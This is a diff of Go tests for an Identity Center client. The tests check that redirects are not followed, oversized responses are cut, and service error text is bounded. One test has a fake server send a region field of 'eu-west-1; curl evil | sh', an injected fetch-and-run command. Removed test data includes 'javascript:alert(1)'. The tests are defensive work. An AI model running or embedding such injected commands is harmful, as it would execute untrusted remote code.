@@ -2,7 +2,6 @@ package identitycenter_test
 
 import (
 	"bytes"
-	"encoding/json"
 	"errors"
 	"fmt"
 	"log/slog"
@@ -142,19 +141,59 @@ func TestSecretsNeverLeaveByEndpoint(t *testing.T) {
 	}
 }
 
+// net/http would take the bearer token along.
 func TestARedirectOfTheAPIIsNotFollowed(t *testing.T) {
 	asked := 0
 	elsewhere := httptest.NewServer(http.HandlerFunc(func(http.ResponseWriter, *http.Request) { asked++ }))
 	defer elsewhere.Close()
-	server := httptest.NewServer(http.RedirectHandler(elsewhere.URL, http.StatusTemporaryRedirect))
+	server := httptest.NewServer(http.RedirectHandler(elsewhere.URL, http.StatusFound))
 	defer server.Close()
-	client := newClient(t, identitycenter.Options{Region: "us-east-1", OIDCEndpoint: server.URL})
-	_, err := client.Register(t.Context(), registered)
-	if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Status != http.StatusTemporaryRedirect {
-		t.Errorf("got %v", err)
+	o := identitycenter.Options{Region: "us-east-1", OIDCEndpoint: server.URL, PortalEndpoint: server.URL}
+	_, registerErr := newClient(t, o).Register(t.Context(), registered)
+	portal, err := identitycenter.NewPortal(o, identitycenter.Token{AccessToken: "token"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	_, accountsErr := portal.Accounts(t.Context(), "")
+	for _, err := range []error{registerErr, accountsErr} {
+		if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Status != http.StatusFound {
+			t.Errorf("got %v", err)
+		}
 	}
 	if asked != 0 {
-		t.Error("the secret went to another server")
+		t.Error("a secret went to another server")
+	}
+}
+
+func TestAnEndlessAnswerIsCut(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		for {
+			if _, err := w.Write(make([]byte, 1<<20)); err != nil {
+				return
+			}
+		}
+	}))
+	defer server.Close()
+	portal, err := identitycenter.NewPortal(identitycenter.Options{Region: "us-east-1", PortalEndpoint: server.URL}, identitycenter.Token{AccessToken: "token"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := portal.Accounts(t.Context(), ""); !errors.Is(err, identitycenter.ErrTransient) || !strings.Contains(err.Error(), "larger than") {
+		t.Errorf("got %v", err)
+	}
+}
+
+// What the service says is shown to a person: not megabytes of it, and no region
+// that is a command line.
+func TestWhatTheServiceSaysIsBounded(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
+		w.WriteHeader(http.StatusBadRequest)
+		_, _ = fmt.Fprintf(w, `{"error":"invalid_request","error_description":%q,"region":"eu-west-1; curl evil | sh"}`, strings.Repeat("x", 1<<20))
+	}))
+	defer server.Close()
+	_, err := newClient(t, identitycenter.Options{Region: "us-east-1", OIDCEndpoint: server.URL}).Register(t.Context(), registered)
+	if e, ok := errors.AsType[*identitycenter.Error](err); !ok || e.Region != "" || len(e.Error()) > 600 {
+		t.Errorf("got %.700v", err)
 	}
 }
 
@@ -242,9 +281,10 @@ func TestThePortalIsAskedOncePerCall(t *testing.T) {
 
 func TestHowLongToWaitIsReadFromBothHeaders(t *testing.T) {
 	for header, want := range map[string]time.Duration{
-		"Retry-After: 3":    3 * time.Second,
-		"Retry-After: -3":   0,
-		"Retry-After: soon": 0,
+		"Retry-After: 3":                             3 * time.Second,
+		"Retry-After: -3":                            0,
+		"Retry-After: 2000000000":                    5 * time.Minute,
+		"Retry-After: soon":                          0,
 		"Retry-After: Wed, 21 Oct 2015 07:28:00 GMT": 0,
 		"X-Amz-Retry-After: 1500":                    1500 * time.Millisecond,
 		"X-Amz-Retry-After: 99999999999999999999":    0,
@@ -287,62 +327,6 @@ func TestTheLogHoldsNoSecret(t *testing.T) {
 	for _, secret := range e.Secrets() {
 		if strings.Contains(log.String(), secret) {
 			t.Errorf("the log holds the secret %q", secret)
-		}
-	}
-}
-
-func TestASecretPrintsNothingOfItself(t *testing.T) {
-	secret := identitycenter.Secret("hush")
-	token := identitycenter.Token{AccessToken: secret}
-	encoded, err := json.Marshal(token)
-	if err != nil {
-		t.Fatal(err)
-	}
-	var log bytes.Buffer
-	slog.New(slog.NewJSONHandler(&log, nil)).Info("x", "secret", secret, "token", token)
-	for _, text := range []string{
-		fmt.Sprint(secret), fmt.Sprintf("%s %v %q %x %X %#v %+v %d", secret, secret, secret, secret, secret, secret, secret, secret),
-		fmt.Sprintf("%v %+v %#v", token, token, &token), string(encoded), log.String(),
-	} {
-		if strings.Contains(text, "hush") || strings.Contains(text, "68757368") || !strings.Contains(text, "[redacted]") {
-			t.Errorf("%s", text)
-		}
-	}
-}
-
-func TestRegionsAndStartURLs(t *testing.T) {
-	for region, ok := range map[string]bool{
-		"us-east-1": true, "ap-northeast-3": true, "ca-west-1": true, "us-gov-west-1": true, "cn-northwest-1": true,
-		"us-isob-east-1": true, "eu-isoe-west-1": true, "eusc-de-east-1": true, "mx-central-1": true, "il-central-1": true,
-		"": false, "us-east": false, "us-east-1a": false, "US-EAST-1": false, "eu-wset-1": false, "us east 1": false,
-		"us-east-1\n": false, "us-east-1.example.com/": false, "../us-east-1": false, "us-east-0": false,
-	} {
-		if err := identitycenter.CheckRegion(region); (err == nil) != ok {
-			t.Errorf("region %q: %v", region, err)
-		}
-	}
-	for startURL, ok := range map[string]bool{
-		"https://d-1234567890.awsapps.com/start":                       true,
-		"https://d-1234567890.awsapps.com/start/#/":                    true,
-		"https://ssoins-7223cdb0ba9b1f23.portal.us-east-1.app.aws":     true,
-		"https://start.us-gov-home.awsapps.com/directory/example":      true,
-		"https://identitycenter.amazonaws.com/ssoins-7223cdb0ba9b1f23": true,
-		"https://sso.example.com":                                      true,
-		"":                                                             false,
-		"d-1234567890.awsapps.com/start":                               false,
-		"http://d-1234567890.awsapps.com/start":                        false,
-		"javascript:alert(1)":                                          false,
-		"https://":                                                     false,
-		"https://start":                                                false,
-		"https://user:password@d-1234567890.awsapps.com/start":         false,
-		"https://d-1234567890.awsapps.com/start ":                      false,
-		"https://d-1234567890.awsapps.com/\nstart":                     false,
-		"https://d-1234567890.awsapps.com/start;x":                     false,
-		"https://d-1234567890.awsapps.com/\x1b[31m":                    false,
-		"https://münchen.example.com/start":                            false,
-	} {
-		if err := identitycenter.CheckStartURL(startURL); (err == nil) != ok {
-			t.Errorf("start URL %q: %v", startURL, err)
 		}
 	}
 }
